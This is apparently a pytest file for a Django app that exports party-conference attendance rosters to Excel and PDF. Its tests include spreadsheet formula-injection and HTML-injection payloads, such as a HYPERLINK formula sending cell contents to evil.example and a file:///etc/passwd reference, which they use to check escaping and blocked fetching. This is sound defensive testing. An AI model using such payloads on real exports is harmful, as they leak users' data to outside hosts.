import io
import logging
import socket
import unicodedata

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from conferences import exports, services
from conferences.exports import HEADERS, attendance_pdf, roster_xlsx
from conferences.models import Channel, Status
from conftest import add_member


def _sheet(point):
    return load_workbook(io.BytesIO(roster_xlsx(point))).active


def _table(sheet) -> list[dict]:
    """The data rows under the header, as {header: value}."""
    rows = list(sheet.iter_rows(values_only=True))
    start = rows.index(HEADERS) + 1
    return [dict(zip(HEADERS, row, strict=False)) for row in rows[start:]]


def _pdf_text(content: bytes) -> str:
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    return unicodedata.normalize("NFC", text)


@pytest.fixture
def no_network(monkeypatch):
    """Any attempt to open a connection is recorded and fails."""
    attempts = []

    def refuse(self, address):
        attempts.append(address)
        raise OSError("no network in tests")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    return attempts


def test_the_roster_workbook_names_the_conference_the_bridge_point_and_the_time(world, hall):
    sheet = _sheet(hall)
    titles = [sheet.cell(row=n, column=1).value for n in range(1, 6)]
    assert titles[0] == "Hội nghị học tập Nghị quyết 23-NQ/TU"
    assert titles[1] == "Điểm cầu: Hội trường chính"
    assert titles[2] == "Đơn vị chủ trì: Đảng bộ phường Lam Hạ"
    starts = timezone.localtime(hall.conference.starts_at)
    assert titles[3] == f"Thời gian: {starts:%d/%m/%Y %H:%M}"
    assert titles[4] == "Địa điểm: Hội trường UBND phường Lam Hạ"
    assert tuple(next(r for r in sheet.iter_rows(values_only=True) if r[0] == "STT")) == HEADERS


def test_the_roster_lists_only_the_members_expected_at_the_bridge_point(world, hall, cell2_point):
    hoa = add_member(world.cell2, "Đỗ Thị Hoa", "010299")
    in_hall = [row["Họ và tên"] for row in _table(_sheet(hall))]
    assert in_hall == ["Nguyễn Văn An", "Trần Thị Bình"]  # in Vietnamese name order
    assert [row["Họ và tên"] for row in _table(_sheet(cell2_point))] == [hoa.full_name]
    # Members of other units, and of another province, are never listed.
    assert "Lê Quốc Cường" not in in_hall and "Phạm Văn Xa" not in in_hall


def test_rows_are_numbered_with_the_cell_of_each_member(world, hall):
    rows = _table(_sheet(hall))
    assert [row["STT"] for row in rows] == [1, 2]
    assert {row["Chi bộ"] for row in rows} == {"Chi bộ khu phố 1"}


def test_card_numbers_are_text_so_their_leading_zeros_survive(world, hall):
    sheet = _sheet(hall)
    cards = [
        cell
        for (cell,) in sheet.iter_rows(min_col=3, max_col=3)
        if cell.value in ("010203", "010204")
    ]
    assert len(cards) == 2
    assert all(cell.data_type == "s" and cell.number_format == "@" for cell in cards)


def test_a_members_current_mark_and_reason_are_shown(world, hall):
    services.attendance_mark(world.secretary, hall, world.an, Status.PRESENT, channel=Channel.QR)
    services.attendance_mark(
        world.secretary, hall, world.binh, Status.ABSENT_EXCUSED, reason="Đi công tác"
    )
    rows = {row["Số thẻ đảng viên"]: row for row in _table(_sheet(hall))}
    assert rows["010203"]["Tình trạng"] == "Có mặt" and rows["010203"]["Lý do"] is None
    assert rows["010204"]["Tình trạng"] == "Vắng có lý do"
    assert rows["010204"]["Lý do"] == "Đi công tác"


def test_a_name_or_reason_that_looks_like_a_formula_is_written_as_text(world, hall):
    trick = add_member(world.cell, '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "010777")
    services.attendance_mark(
        world.secretary, hall, trick, Status.ABSENT_EXCUSED, reason="@SUM(1+1)"
    )
    sheet = _sheet(hall)
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert not [cell for cell in cells if str(cell.value).startswith(("=", "@", "+", "-"))]
    row = next(r for r in _table(sheet) if r["Số thẻ đảng viên"] == "010777")
    assert row["Họ và tên"] == "'" + trick.full_name
    assert row["Lý do"] == "'@SUM(1+1)"


def test_the_status_column_offers_the_four_statuses_and_the_header_stays_in_view(world, hall):
    sheet = _sheet(hall)
    header_row = next(cell.row for (cell,) in sheet.iter_rows(max_col=1) if cell.value == "STT")
    assert sheet.freeze_panes == f"A{header_row + 1}"
    (validation,) = sheet.data_validations.dataValidation
    assert validation.type == "list"
    assert validation.formula1 == '"Có mặt,Về sớm,Vắng có lý do,Vắng không lý do"'
    assert str(validation.sqref) == f"E{header_row + 1}:E{header_row + 2}"


def test_a_bridge_point_with_nobody_expected_gives_a_list_with_just_the_header(
    world, campaign, cell2_point
):
    sheet = _sheet(cell2_point)
    assert _table(sheet) == []
    assert not sheet.data_validations.dataValidation


def test_the_attendance_sheet_is_a_pdf_with_the_title_and_the_names(world, hall, no_network):
    content = attendance_pdf(hall)
    assert content.startswith(b"%PDF")
    text = _pdf_text(content)
    assert "DANH SÁCH ĐIỂM DANH" in text
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in text
    assert "ĐẢNG ỦY PHƯỜNG LAM HẠ" in text and "ĐẢNG BỘ THÀNH PHỐ HÀ NAM" in text
    assert "Hội nghị học tập Nghị quyết 23-NQ/TU" in text
    assert "Nguyễn Văn An" in text and "Trần Thị Bình" in text
    assert "Phạm Văn Xa" not in text
    assert not no_network


def test_the_attendance_sheet_counts_who_came_who_did_not_and_the_guests(world, hall):
    services.attendance_mark(world.secretary, hall, world.an, Status.LEFT_EARLY)
    services.attendance_mark(world.secretary, hall, world.binh, Status.ABSENT_EXCUSED, reason="Ốm")
    services.guests_set(world.secretary, hall, 1234)
    text = _pdf_text(attendance_pdf(hall))
    assert "Có mặt: 0" in text
    assert "Về sớm: 1" in text
    assert "Vắng có lý do: 1" in text
    assert "Vắng không lý do: 0" in text
    assert "Khách mời (không phải đảng viên): 1.234" in text
    assert "NGƯỜI CHỦ TRÌ" in text


def test_the_sheet_fetches_nothing_even_when_its_html_asks_for_it(
    world, hall, monkeypatch, no_network, caplog
):
    # Whatever a template change or a name typed by a user might bring into the page.
    page = (
        '<html><head><link rel="stylesheet" href="http://fonts.example/x.css"></head>'
        '<body><img src="https://evil.example/pixel.png"><img src="file:///etc/passwd">'
        "<p>Điểm danh</p></body></html>"
    )
    monkeypatch.setattr(exports, "render_to_string", lambda *args, **kwargs: page)
    with caplog.at_level(logging.WARNING, logger="weasyprint"):
        content = attendance_pdf(hall)
    assert content.startswith(b"%PDF")
    assert not no_network
    refused = [r for r in caplog.records if "Không tải tài nguyên" in r.getMessage()]
    assert len(refused) == 3


def test_a_name_with_markup_is_printed_as_text(world, hall, no_network):
    add_member(world.cell, '<img src="http://evil.example/x.png"> Tư', "010778")
    text = _pdf_text(attendance_pdf(hall))
    assert "evil.example" in text  # shown, not loaded
    assert not no_network
